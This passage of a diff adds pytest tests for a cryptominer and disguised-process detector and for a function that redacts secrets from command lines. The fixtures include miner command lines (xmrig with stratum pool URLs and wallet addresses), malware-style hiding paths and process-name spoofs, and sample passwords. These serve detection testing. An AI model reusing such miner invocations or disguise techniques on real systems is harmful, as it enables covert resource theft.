+    [m] = S.match_environ({"PATH": "/usr/bin", key: "very-secret-value"})
+    assert m.signal == "miner_env" and key in m.reason and "very-secret-value" not in m.reason
+
+
+def test_wallet_env_needs_an_address():
+    assert S.match_environ({"WALLET": "/home/u/.wallet"}) == []
+    assert S.match_environ({"WALLET_ADDRESS": ""}) == []
+    [m] = S.match_environ({"WALLET": XMR})
+    assert m.signal == "miner_env" and XMR[:8] not in m.reason
+    assert S.match_environ({"WALLET_ADDRESS": f"{ETH}.rig"})
+
+
+def test_env_value_with_pool_url():
+    [m] = S.match_environ({"ARGS": "-o stratum+tcp://u:pw@pool.example.net:3333"})
+    assert m == Match("miner_env", "environment variable ARGS holds a pool URL")
+
+
+def test_benign_env():
+    env = {"PATH": "/usr/bin", "HOME": "/home/u", "DB_POOL_SIZE": "5", "PGPASSWORD": "x", "ORACLE_WALLET": "/x"}
+    assert S.match_environ(env) == []
+
+
+# ---------------------------------------------------------------------------------------------
+# Disguise signals
+# ---------------------------------------------------------------------------------------------
+
+
+def test_exe_deleted():
+    assert S.match_executable("nginx", "/usr/sbin/nginx", True) == [
+        Match("exe_deleted", "executable deleted: /usr/sbin/nginx")
+    ]
+    assert S.match_executable("nginx", "/usr/sbin/nginx (deleted)", True)[0].signal == "exe_deleted"
+
+
+@pytest.mark.parametrize(
+    "exe, cwd",
+    [
+        ("/tmp/x", ""),
+        ("/tmp/.X11-unix/.x/systemd", ""),
+        ("/var/tmp/a", ""),
+        ("/dev/shm/.k", ""),
+        ("/home/alice/Downloads/tool", ""),
+        ("/root/Downloads/tool", ""),
+        ("C:\\Users\\bob\\Downloads\\setup.exe", ""),
+        ("C:\\Users\\bob\\AppData\\Local\\Temp\\svchost.exe", ""),
+        ("c:/users/bob/appdata/local/temp/x.exe", ""),
+        ("C:\\Windows\\Temp\\x.exe", ""),
+        ("C:\\Users\\Public\\x.exe", ""),
+        ("/usr/bin/python3.11", "/dev/shm"),
+        ("/usr/bin/python3.11", "/tmp"),
+    ],
+)
+def test_temp_dirs(exe, cwd):
+    comm = re.split(r"[/\\]", exe)[-1]
+    assert [m.signal for m in S.match_executable(comm, exe, False, cwd)] == ["exe_in_temp_dir"]
+
+
+@pytest.mark.parametrize(
+    "exe, cwd",
+    [
+        ("/usr/bin/tmpwatch", "/home/u"),
+        ("/opt/tmp-tools/x", ""),
+        ("/home/alice/Documents/Downloads.py", ""),
+        ("/srv/tmp/x", ""),
+        ("C:\\Program Files\\App\\app.exe", "C:\\Users\\bob"),
+        ("C:\\Users\\Publicity\\x.exe", ""),
+    ],
+)
+def test_not_temp_dirs(exe, cwd):
+    comm = re.split(r"[/\\]", exe)[-1]
+    assert S.match_executable(comm, exe, False, cwd) == []
+
+
+@pytest.mark.parametrize(
+    "comm, exe",
+    [
+        ("kworker/0:1", "/opt/.x/a"),
+        ("[kworker/0:0]", "/usr/local/bin/helper"),
+        ("kthreadd", "/opt/x/y"),
+        ("systemd-journal", "/usr/local/bin/xmrig"),
+        ("sshd", "/var/lib/app/.cache/bin"),
+        ("dbus-daemon", "/opt/.hidden/miner"),
+    ],
+)
+def test_name_mismatch(comm, exe):
+    assert [m.signal for m in S.match_executable(comm, exe, False)] == ["name_mismatch"]
+
+
+@pytest.mark.parametrize(
+    "comm, exe",
+    [
+        ("kworker/0:1", ""),  # a real kernel thread: no executable
+        ("bash", "/usr/bin/bash"),
+        ("gnome-terminal-", "/usr/libexec/gnome-terminal-server"),  # 15-char truncation
+        ("containerd-shim", "/usr/bin/containerd-shim-runc-v2"),
+        ("python3", "/usr/bin/python3.11"),
+        ("gunicorn", "/usr/bin/python3.11"),  # setproctitle
+        ("puma 6.4.0 (tcp", "/usr/bin/ruby3.1"),
+        ("MainThread", "/usr/bin/node"),
+        ("java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java"),
+        ("sh", "/usr/bin/dash"),
+        ("vi", "/usr/bin/vim.basic"),
+        ("awk", "/usr/bin/mawk"),
+        ("cc", "/usr/bin/x86_64-linux-gnu-gcc-12"),
+        ("gcc", "/usr/bin/gcc-12"),
+        ("editor", "/usr/bin/nano"),
+        ("X", "/usr/lib/xorg/Xorg"),
+        ("Web Content", "/usr/lib/firefox/firefox"),
+        ("Isolated Web Co", "/usr/lib/firefox-esr/firefox-esr"),
+        ("(sd-pam)", "/usr/lib/systemd/systemd"),
+        ("(udev-worker)", "/usr/bin/udevadm"),
+        ("systemd-udevd", "/usr/bin/udevadm"),
+        ("runc:[2:INIT]", "/usr/bin/runc"),
+        ("pipewire-pulse", "/usr/bin/pipewire"),
+        ("modprobe", "/usr/bin/kmod"),
+        ("iptables", "/usr/sbin/xtables-nft-multi"),
+        ("sendmail", "/usr/sbin/exim4"),
+        ("postgres", "/usr/lib/postgresql/16/bin/postgres"),
+        ("ls", "/bin/busybox"),
+        ("Game.exe", "/usr/bin/wine64-preloader"),
+        (".firefox-wrapped", "/nix/store/abc-firefox/bin/.firefox-wrapped"),
+        ("firefox", "/nix/store/abc-firefox/bin/.firefox-wrapped"),
+        ("nc", "/usr/bin/nc.openbsd"),
+        ("chrome", "/opt/google/chrome/chrome"),
+        ("svchost.exe", "C:\\Windows\\System32\\svchost.exe"),
+    ],
+)
+def test_no_name_mismatch(comm, exe):
+    assert S.match_executable(comm, exe, False) == []
+
+
+# ---------------------------------------------------------------------------------------------
+# match_all
+# ---------------------------------------------------------------------------------------------
+
+
+def test_match_all_dedup_keeps_first_reason():
+    s = Signatures(extra_names=["svc"])
+    matches = s.match_all(
+        comm="svc",
+        exe="/dev/shm/svc",
+        exe_deleted=True,
+        argv=["/dev/shm/svc", "--donate-level", "1", "-o", "stratum+tcp://pool.example.net:3333", "-u", XMR],
+        environ={"POOL_URL": "x", "DONATE_LEVEL": "1"},
+        cwd="/tmp",
+    )
+    assert [m.signal for m in matches] == [
+        "miner_name", "miner_cmdline", "pool_url", "wallet_address", "miner_env", "exe_deleted", "exe_in_temp_dir",
+    ]
+    assert matches[-1].reason == "executable in a temp folder: /dev/shm/svc"
+    assert all(m.signal in SIGNALS for m in matches)
+
+
+def test_match_all_uses_argv0_for_names():
+    assert _signals(S.match_all(comm="sh", exe="/usr/bin/dash", exe_deleted=False, argv=["xmrig"])) == {"miner_name"}
+
+
+def test_matching_is_fast():
+    commons = [
+        ["/usr/lib/firefox/firefox", "-contentproc", "-childID", "3", "-isForBrowser", "-prefsLen", "31000",
+         "-appDir", "/usr/lib/firefox/browser", "{4b5f-22}", "12345", "true", "tab"],
+        ["/usr/bin/python3", "-m", "http.server", "8000"],
+        ["postgres: walwriter"],
+        ["/usr/sbin/sshd", "-D"],
+    ]
+    env = {f"VAR{i}": "value" * 5 for i in range(40)}
+    n = 2000
+    start = time.perf_counter()
+    for i in range(n):
+        argv = commons[i % len(commons)]
+        S.match_all(comm="x", exe="/usr/bin/x", exe_deleted=False, argv=argv, environ=env, cwd="/home/u")
+    per_call = (time.perf_counter() - start) / n
+    assert per_call < 0.001, per_call  # well under a millisecond per process
+
+
+# ---------------------------------------------------------------------------------------------
+# Redaction
+# ---------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "argv, expected",
+    [
+        (["xmrig", "-o", "pool.example.net:3333", "-u", XMR, "-p", "rig1"],
+         f"xmrig -o pool.example.net:3333 -u {XMR} -p <redacted>"),
+        (["xmrig", "--pass", "x", "--pass=y", "--password=z", "--user=w"],
+         "xmrig --pass <redacted> --pass=<redacted> --password=<redacted> --user=w"),
+        (["tool", "--token", "abc", "--api-key=def", "--apikey", "ghi", "--secret", "jkl", "-k", "keep"],
+         "tool --token <redacted> --api-key=<redacted> --apikey <redacted> --secret <redacted> -k keep"),
+        (["app", "DB_PASSWORD=hunter2", "api_key=1", "ApiKey=2", "SECRET_X=3", "token=4", "name=ok"],
+         "app DB_PASSWORD=<redacted> api_key=<redacted> ApiKey=<redacted> SECRET_X=<redacted> token=<redacted> name=ok"),
+        (["git", "clone", "https://alice:ghp_abc123@github.com/org/repo.git"],
+         "git clone https://alice:<redacted>@github.com/org/repo.git"),
+        (["ethminer", "-P", "stratum1+tcp://0xabc.rig:pw@eth.example.net:4444"],
+         "ethminer -P stratum1+tcp://0xabc.rig:<redacted>@eth.example.net:4444"),
+        (["curl", "-H", "Authorization: Bearer eyJhbGciOi.x.y", "https://api.example.com"],
+         "curl -H Authorization: <redacted> https://api.example.com"),
+        (["curl", "-H", "Cookie: session=abc; other=def", "https://x.example"],
+         "curl -H Cookie: <redacted> https://x.example"),
+        (["sh", "-c", "curl -H 'Authorization: Bearer abc.def' https://x.example"],
+         "sh -c curl -H 'Authorization: Bearer <redacted>' https://x.example"),
+        (["curl", "-u", "admin:pw", "https://x.example"], "curl -u admin:<redacted> https://x.example"),
+        (["curl", "-k", "https://x.example"], "curl -k https://x.example"),
+        (["7z", "a", "-pS3cret", "archive.7z", "docs/"], "7z a -p<redacted> archive.7z docs/"),
+        (["mysql", "-u", "root", "-pSecret123", "db"], "mysql -u root -p<redacted> db"),
+        (["sudo", "-u", "root", "mysqldump", "-pSecret", "db"], "sudo -u root mysqldump -p<redacted> db"),
+        (["openssl", "enc", "-aes-256-cbc", "-k", "pw", "-pass", "pass:hunter2", "-passin", "env:X"],
+         "openssl enc -aes-256-cbc -k <redacted> -pass <redacted> -passin <redacted>"),
+        (["zip", "-P", "pw", "a.zip", "f"], "zip -P <redacted> a.zip f"),
+        (["sshpass", "-p", "pw", "ssh", "host"], "sshpass -p <redacted> ssh host"),
+        (["keytool", "-list", "-storepass", "changeit"], "keytool -list -storepass <redacted>"),
+        (["java", "-Djavax.net.ssl.keyStorePassword=changeit", "-jar", "a.jar"],
+         "java -Djavax.net.ssl.keyStorePassword=<redacted> -jar a.jar"),
+        (["app", "https://h.example/cb?code=1&access_token=abc&state=x"],
+         "app https://h.example/cb?code=1&access_token=<redacted>&state=x"),
+        (["minerd", "-a", "scrypt", "-O", "user.worker:password"], "minerd -a scrypt -O user.worker:<redacted>"),
+        (["EthDcrMiner64.exe", "-ewal", "0xabc", "-epsw", "x"], "EthDcrMiner64.exe -ewal 0xabc -epsw <redacted>"),
+        (["smbclient", "//srv/share", "-U", "bob%pw"], "smbclient //srv/share -U bob%<redacted>"),
+        (["sh", "-c", "xmrig -o p.example:1 -p secret"], "sh -c xmrig -o p.example:1 -p <redacted>"),
+        (["unknown", "-p", "maybe-secret"], "unknown -p <redacted>"),
+    ],
+)
+def test_redact(argv, expected):
+    assert redact_cmdline(argv) == expected
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["gcc", "-p", "-pg", "-pthread", "-pipe", "-O2", "-o", "prog", "prog.c"],
+        ["x86_64-linux-gnu-gcc-12", "-p", "main.c"],
+        ["clang-16", "-p", "main.c"],
+        ["ps", "-p", "1234", "-o", "pid,comm"],
+        ["mkdir", "-p", "/tmp/a/b"],
+        ["cp", "-p", "a", "b"],
+        ["ssh", "-p", "2222", "host.example.com"],
+        ["docker", "run", "-p", "127.0.0.1:8080:80", "nginx"],
+        ["patch", "-p1", "-i", "fix.diff"],
+        ["journalctl", "-p", "err", "-b"],
+        ["iptables", "-A", "INPUT", "-p", "tcp", "--dport", "22", "-j", "ACCEPT"],
+        ["unzip", "-p", "a.zip", "f.txt"],
+        ["node", "-p", "process.version"],
+        ["rails", "server", "-p", "3000"],
+        ["strace", "-f", "-p", "4242"],
+        ["python3", "-m", "http.server", "8000"],
+        ["tar", "-cpzf", "backup.tgz", "/etc"],
+        ["java", "-XX:+UseG1GC", "-XX:MaxGCPauseMillis=200", "-jar", "app.jar"],
+        ["ffmpeg", "-i", "in.mp4", "-c:v", "libx264", "-preset", "slow", "out.mp4"],
+        ["curl", "-o", "file", "https://example.com/a"],
+        ["xz", "-T0", "-9", "big.tar"],
+        ["sudo", "mkdir", "-p", "/srv/x"],
+        ["bash", "-c", "ps -p 1 -o comm="],
+    ],
+)
+def test_redact_leaves_ordinary_commands_alone(argv):
+    assert redact_cmdline(argv) == " ".join(argv)
+
+
+def test_redact_truncates():
+    argv = ["xmrig", "-p", "secret"] + ["--opt"] * 200
+    out = redact_cmdline(argv, max_length=64)
+    assert len(out) == 64 and out.endswith("...") and out.startswith("xmrig -p <redacted>")
+    assert redact_cmdline(["a", "b"], max_length=64) == "a b"
+    assert redact_cmdline(["x" * 100], max_length=20) == "x" * 17 + "..."
+
+
+def test_redact_never_leaks_across_forms():
+    secret = "Zq9secretZq9"
+    forms = [
+        ["tool", "--password", secret], ["tool", f"--password={secret}"], ["tool", f"PASS={secret}"],
+        ["tool", f"https://u:{secret}@h.example/"], ["tool", "-H", f"X-Api-Key: {secret}"],
+        ["tool", "-H", f"Authorization: token {secret}"], ["tool", f"--db-pass={secret}"],
+        ["mysql", f"-p{secret}"], ["xmrig", "-p", secret], ["tool", "--client-secret", secret],
+        ["tool", f"Bearer {secret}"], ["tool", f"--access-token={secret}"], ["tool", "--key", secret],
+    ]
+    for argv in forms:
+        assert secret not in redact_cmdline(argv), argv
+
+
+def test_redact_empty():
+    assert redact_cmdline([]) == ""
